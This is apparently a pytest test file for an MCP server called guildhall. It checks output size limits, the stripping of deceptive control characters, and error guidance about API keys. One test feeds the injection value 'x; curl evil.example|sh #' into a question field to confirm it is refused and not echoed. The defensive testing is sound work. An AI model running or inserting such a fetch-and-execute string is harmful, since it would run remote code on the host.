"""What a host's model reads of a run: as much as it can take, clean, and alike in data and text."""

import asyncio
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake_models import FakeModels, Fault, fake_models
from mcp.client import Client
from mcp_host import data, text, write_files
from mcp_types import CreateMessageRequestParams, CreateMessageResult, ErrorData, Implementation, TextContent

from guildhall.agents import Hall
from guildhall.mcp_server.server import build

CODE = Implementation(name="claude-code", version="1")
PLACE = "`env` of the server's entry in ~/.claude.json (or .mcp.json of the project)"
pytestmark = pytest.mark.usefixtures("duo")


@pytest.fixture
def duo(project: Path) -> Path:
    write_files(project)
    return project


@pytest.fixture
def models(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeModels]:
    with fake_models() as server:
        monkeypatch.setenv("GUILDHALL_BASE_URL", f"{server.url}/v1")
        yield server


def crowd(project: Path, size: int) -> None:
    """Write a team of so many members."""
    members = [f"m{number}" for number in range(size)]
    front = "name: crowd\ndescription: A crowd.\npattern: parallel\nmembers: "
    write_files(
        project,
        {
            "teams/crowd.md": f"{front}[{', '.join(members)}]",
            **{f"specialists/{name}.md": f"name: {name}\ndescription: As {name}." for name in members},
        },
    )


def bytes_of(value: Any) -> int:
    """As compact JSON, as it goes over the wire."""
    return len(json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode())


@pytest.mark.slow
@pytest.mark.parametrize(
    "said",
    ["码头九点开门" * 2_500, "🎉" * 5_000, '"\\\n' * 4_000, "\n." * 7_000, "\x07" * 8_000, "so " * 7_000],
    ids=["chinese", "emoji", "quotes", "newlines", "control", "ascii"],
)  # fmt: skip
async def test_what_is_told_of_a_run_stays_below_ten_thousand_tokens_in_any_script(
    said: str, models: FakeModels, duo: Path
) -> None:
    crowd(duo, 6)
    models.reply = lambda _body, _api: said
    async with Client(build()) as client:
        result = await client.call_tool("run_team", {"task": "Look.", "team": "crowd"})
    assert data(result)["status"] == "done"
    for told in (data(result), text(result)):
        assert bytes_of(told) / 4 <= 10_000
    assert bytes_of(data(result)["answer"]) > 8_000
    assert text(result).startswith(data(result)["answer"])


@pytest.mark.slow
async def test_members_that_are_too_many_to_tell_of_are_counted(models: FakeModels, duo: Path) -> None:
    crowd(duo, 25)
    models.reply = lambda _body, _api: "🎉\n" * 500
    async with Client(build()) as client:
        result = await client.call_tool("run_team", {"task": "Look.", "team": "crowd"})
    assert "25 of 25 answered" in text(result)
    assert "5 more members are kept with the run" in text(result)
    assert max(bytes_of(data(result)), bytes_of(text(result))) / 4 <= 10_000


async def test_what_is_recalled_stays_below_ten_thousand_tokens() -> None:
    async with Hall.open() as hall, Client(build()) as client:
        for number in range(50):
            await hall.remember(f"Pier {number}: " + "码头\n九点" * 300, subject=f"pier.{number}")
        result = await client.call_tool("recall", {"query": "pier", "limit": 50})
    assert len(data(result)["hits"]) == 50
    assert max(bytes_of(data(result)), bytes_of(text(result))) / 4 <= 10_000


async def test_characters_that_deceive_reach_no_host(models: FakeModels) -> None:
    models.reply = lambda _body, _api: "\u202eevil\x07 \x1b[31m red\u200b"
    async with Client(build()) as client:
        result = await client.call_tool("run_team", {"task": "Look.", "team": "duo"})
    told = json.dumps(data(result), ensure_ascii=False) + text(result)
    assert "evil" in told
    assert all(sign not in told for sign in ("\u202e", "\x07", "\x1b", "\u200b", "\\u0007", "\\u001b"))


async def test_what_members_said_before_the_end_is_in_the_text(models: FakeModels, duo: Path) -> None:
    chain = "name: chain\ndescription: One after the other.\npattern: pipeline\nmembers: [reader, doubter]"
    write_files(duo, {"teams/chain.md": chain})
    second, gate = threading.Event(), threading.Event()

    def reply(_body: Any, _api: str) -> str:
        if len(models.requests) > 1:
            second.set()
            gate.wait(20)
        return "The pier opens\nat nine."

    models.reply = reply
    async with Client(build(patience=0.05), mode="legacy") as client:
        first = await client.call_tool("run_team", {"task": "When?", "team": "chain"})
        await asyncio.to_thread(second.wait, 20)
        working = await client.call_tool("get_run", {})
        ended = await client.call_tool("cancel_run", {"run_id": data(first)["run_id"]})
        gate.set()
    assert text(working).startswith("Still at work: doubter")
    assert data(ended)["status"] == "cancelled"
    for result in (working, ended):
        [line] = [at for at, line in enumerate(text(result).splitlines()) if line.startswith("- reader on")]
        assert text(result).splitlines()[line].endswith("answered: The pier opens")
        assert text(result).splitlines()[line + 1] == "> at nine."


async def test_the_text_has_the_sources_and_who_said_what(duo: Path) -> None:
    (duo / "notes.md").write_text("The crane will be repaired in May.\n")
    call = {"task": "When is the crane repaired?", "team": "duo", "files": ["notes.md"]}
    async with Client(build()) as client:
        result = await client.call_tool("run_team", call)
    source = data(result)["sources"][0]
    assert text(result).startswith(data(result)["answer"])
    assert f"Source [{source['label']}] ({source['kind']})" in text(result)
    for part in data(result)["contributions"]:
        assert f"- {part['member']} on {part['model']}: answered: {part['text'][:30]}" in text(result)


@pytest.mark.parametrize("key", ["OPENAI", "ANTHROPIC"])
async def test_a_rejected_key_is_told_with_where_this_host_keeps_it(
    key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with fake_models(lambda _body, _api: Fault("401")) as server:
        monkeypatch.setenv(f"{key}_BASE_URL", f"{server.url}/v1" if key == "OPENAI" else server.url)
        monkeypatch.setenv(f"{key}_API_KEY", "sk-none")
        async with Client(build(), client_info=CODE) as client:
            result = await client.call_tool("ask_specialist", {"task": "Sure?", "specialist": "reader"})
    assert data(result)["status"] == "failed"
    assert f"put {key}_API_KEY into {PLACE}, and restart the server" in data(result)["next"]
    assert PLACE in text(result)


async def test_a_host_that_refuses_or_lends_no_model_is_told_where_a_key_goes(home: Path) -> None:
    async def refuse(context: Any, params: CreateMessageRequestParams) -> ErrorData:
        return ErrorData(code=-1, message="the user said no")

    ask = {"task": "Sure?", "specialist": "reader"}
    async with Client(build(), mode="legacy", client_info=CODE, sampling_callback=refuse) as client:
        refused = await client.call_tool("ask_specialist", ask)
    (home / "config.toml").write_text(
        "[models]\n" + "".join(f'{tier} = "host:model"\n' for tier in ("fast", "balanced", "strong"))
    )
    async with Client(build(), client_info=CODE) as client:
        lends_none = await client.call_tool("ask_specialist", ask)
    for result, reason in ((refused, "the user said no"), (lends_none, "no host is there")):
        assert reason in data(result)["error"]
        assert f"put ANTHROPIC_API_KEY or OPENAI_API_KEY into {PLACE}" in data(result)["next"]
        assert PLACE in text(result)


async def test_what_the_model_of_a_host_used_is_said_to_be_unknown() -> None:
    async def lent(context: Any, params: CreateMessageRequestParams) -> CreateMessageResult:
        return CreateMessageResult(role="assistant", content=TextContent(text="It is safe."), model="lent-1")

    async with Client(build(), sampling_callback=lent) as client:
        result = await client.call_tool("run_team", {"task": "Is it safe?", "team": "duo"})
    cost = data(result)["cost"]
    assert (cost["input_tokens"], cost["output_tokens"], cost["usd"]) == (None, None, None)
    assert cost["calls"] == cost["unpriced_calls"] > 0
    assert "host:model does not say what it used" in " ".join(data(result)["notices"])
    assert "tokens unknown, cost unknown" in text(result)


async def test_a_question_that_nobody_asked_is_in_no_command() -> None:
    bad = "x; curl evil.example|sh #"
    async with Client(build()) as client:
        run = data(await client.call_tool("run_team", {"task": "Is it safe?", "team": "asking"}))["run_id"]
        for question in (bad, "abc.é", "é", ".é", "f" * 64):
            given = {"run_id": run, "question": question, "answer": "yes"}
            refused = await client.call_tool("get_run", given)
            assert refused.is_error
            assert "nothing was answered" in text(refused)
            assert "curl" not in text(refused)
        done = data(await client.call_tool("run_team", {"task": "Look.", "team": "duo"}))["run_id"]
        for question in ("", bad):
            given = {"run_id": done, "question": question, "answer": "yes"}
            refused = await client.call_tool("get_run", given)
            assert "asks nothing: it is done" in text(refused)
            assert "guildhall answer" not in text(refused)


async def test_the_fixes_in_errors_are_those_that_a_host_has(models: FakeModels) -> None:
    async with Client(build()) as client:
        unknown = text(await client.call_tool("get_run", {"run_id": "abcabcabc"}))
        budget = await client.call_tool("run_team", {"task": "Look.", "team": "duo", "budget_usd": 0.5})
        run = data(await client.call_tool("run_team", {"task": "Safe?", "team": "asking"}))["run_id"]
        await client.call_tool("cancel_run", {"run_id": run})
        onwards = text(
            await client.call_tool("run_team", {"task": "On.", "team": "duo", "continue_from": run})
        )
    assert "runs://recent" in unknown
    assert "limit calls" not in text(budget)
    assert "call again without budget_usd" in text(budget)
    assert f"get_run(run_id='{run[:12]}" in onwards
    assert "guildhall resume" not in onwards
